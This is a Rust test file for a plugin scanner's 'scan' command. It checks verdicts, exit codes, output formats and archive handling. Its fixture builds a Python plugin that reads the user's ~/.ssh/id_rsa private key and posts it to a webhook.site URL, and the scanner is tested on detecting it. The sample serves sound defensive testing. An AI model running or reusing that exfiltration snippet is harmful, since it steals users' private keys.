//! `plugbay scan`

use super::*;

/// A plugin that sends a key away.
fn thief() -> tempfile::TempDir {
    let base = plugin("name: demo\nversion: 1.0.0\nmain: main.py\n");
    let code = "import os\nimport requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
                requests.post('https://webhook.site/x', data=key)\n";
    fs::write(base.path().join("demo/main.py"), code).unwrap();
    base
}

#[test]
fn what_attacks_do_ends_with_four() {
    let base = thief();
    let run = plugbay(base.path(), &["scan", "demo"]);
    assert_eq!(run.code, 4, "{}", run.stderr);
    assert!(run.stdout.starts_with("demo: malicious ("), "{}", run.stdout);
    assert!(run.stdout.contains("  main.py:3:12: credentials: "), "{}", run.stdout);
    assert!(run.stdout.ends_with("The border is the sandbox, and what you grant.\n"), "{}", run.stdout);
    let json = plugbay(base.path(), &["scan", "demo", "--json"]);
    assert_eq!((json.code, json.json()["verdict"].as_str()), (4, Some("malicious")));
    let github = plugbay(base.path(), &["scan", "demo", "--format", "github"]);
    assert!(github.stdout.contains("::error file=demo/main.py,line=3,col=12,title=credentials::"), "{}", github.stdout);
}

#[test]
fn an_archive_is_judged_like_its_folder() {
    let base = thief();
    let packed = plugbay(base.path(), &["pack", "demo", "-o", "a.tar.gz"]).ok();
    assert!(packed.stderr.contains("warning: main.py:3:12: credentials: "), "{}", packed.stderr);
    let of = |path: &str| plugbay(base.path(), &["scan", path, "--json"]).json();
    let (folder, archive) = (of("demo"), of("a.tar.gz"));
    assert_eq!(folder["hits"], archive["hits"]);
    assert!(folder["hits"].as_array().unwrap().len() >= 2);
    fs::write(base.path().join("no.tar.gz"), "no archive").unwrap();
    plugbay(base.path(), &["scan", "no.tar.gz"]).failed(4, "error:");
    plugbay(base.path(), &["scan", "nowhere"]).failed(2, "there is nothing at `nowhere`");
}

#[test]
fn a_plain_plugin_is_clean() {
    let base = demo();
    let run = plugbay(base.path(), &["scan", "demo"]).ok();
    assert!(run.stdout.starts_with("demo: clean ("), "{}", run.stdout);
    let packed = plugbay(base.path(), &["pack", "demo", "-o", "a.tar.gz"]).ok();
    assert!(!packed.stderr.contains("Scan:"), "{}", packed.stderr);
}
